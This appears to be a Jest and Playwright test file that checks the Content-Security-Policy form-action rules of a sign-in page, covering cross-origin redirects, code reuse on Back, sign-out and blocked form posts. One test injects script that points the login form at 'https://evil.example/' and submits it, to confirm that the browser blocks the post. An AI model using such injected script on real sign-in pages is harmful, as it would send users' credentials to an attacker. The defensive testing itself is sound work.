import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser, BrowserContext } from 'playwright-core';
import { openBrowser } from '../support/chromium.js';
import { loginPath } from '../support/hosted-page.js';
import { startListeningApp } from '../support/listening-app.js';
import { sharedTestApp, type SharedTestApp } from '../support/test-app.js';
import { World } from '../support/world.js';

/** Chromium applies `form-action` to every redirect after a form, also to those of the app. */
describe('form-action policy (CSP) of the sign-in page', () => {
  let service: SharedTestApp;
  let world: World;
  let browser: Browser;

  beforeAll(async () => {
    [service, browser] = await Promise.all([sharedTestApp(), openBrowser()]);
    world = await World.open(service.baseUrl, service.settings.databaseUrl!);
  });

  afterAll(async () => {
    await browser.close();
    await world.close();
  });

  /** A sign-in whose callback redirects to a second origin. @returns the page after that redirect */
  const signInOnward = async (context: BrowserContext) => {
    const front = await startListeningApp();
    const back = await startListeningApp(`${front.origin.replace('127.0.0.1', 'localhost')}/home`);
    const { redirectUri } = back;
    const tenant = await world.tenant();
    const app = { ...(await world.app(tenant, { config: { redirect_uris: [redirectUri] } })), redirectUri };
    const user = await world.user(app);
    const page = await context.newPage();
    const close = () => Promise.all([front.close(), back.close(), context.close()]);
    await page.goto(`${service.baseUrl}/account/signed-out`);
    await page.goto(`${service.baseUrl}${loginPath(app)}`);
    await page.fill('#email', user.email);
    await page.fill('#password', user.password);
    await page.click('button.wide');
    await page.waitForURL(/^http:\/\/localhost:\d+\/home$/);
    return { page, app, back, close };
  };

  it.each([true, false])(
    'allows an app whose callback redirects to a second origin (with scripts: %p)',
    async (javaScriptEnabled) => {
      const { page, back, close } = await signInOnward(await browser.newContext({ javaScriptEnabled }));
      try {
        expect(await page.locator('body').innerText()).toBe('called with /home');
        expect(back.calls.filter((path) => path.startsWith('/callback?code=')).length).toBe(1);
      } finally {
        await close();
      }
    },
  );

  it('keeps used codes out of the history, so that Back sends a new code to the app', async () => {
    const { page, back, close } = await signInOnward(await browser.newContext());
    try {
      // Back leads to the sign-in page, which redirects the signed-in user to the app with a new code.
      await page.goBack();
      await page.waitForURL(/^http:\/\/localhost:\d+\/home$/);
      const codes = back.calls.map((path) => new URL(path, back.origin).searchParams.get('code'));
      expect([codes.length, new Set(codes).size]).toEqual([2, 2]);
    } finally {
      await close();
    }
  });

  it('allows a sign-out to an app that redirects to a second origin', async () => {
    const { page, app, back, close } = await signInOnward(await browser.newContext());
    try {
      const query = new URLSearchParams({ client_id: app.id, post_logout_redirect_uri: back.redirectUri });
      await page.goto(`${service.baseUrl}/logout?${query.toString()}`);
      await page.click('button.wide');
      await page.waitForURL(/^http:\/\/localhost:\d+\/home$/);
      expect(back.calls).toContain('/callback');
    } finally {
      await close();
    }
  });

  it('allows the origin of the app’s redirect URI', async () => {
    const app = await world.app(await world.tenant());
    const page = await browser.newPage();
    const answer = await page.goto(`${service.baseUrl}${loginPath(app)}`);
    const { origin } = new URL(app.redirectUri);
    expect(answer?.headers()['content-security-policy']).toContain(`form-action 'self' ${origin};`);
  });

  it('blocks a form that posts to another site', async () => {
    const app = await world.app(await world.tenant());
    const page = await browser.newPage();
    const complaint = page.waitForEvent('console', (message) => message.text().includes('form-action'));
    await page.goto(`${service.baseUrl}${loginPath(app)}`);
    await page.evaluate(`
      document.forms[0].action = 'https://evil.example/';
      document.forms[0].submit();
    `);
    expect((await complaint).text()).toContain('evil.example');
    expect(page.url().startsWith(service.baseUrl)).toBe(true);
  });
});
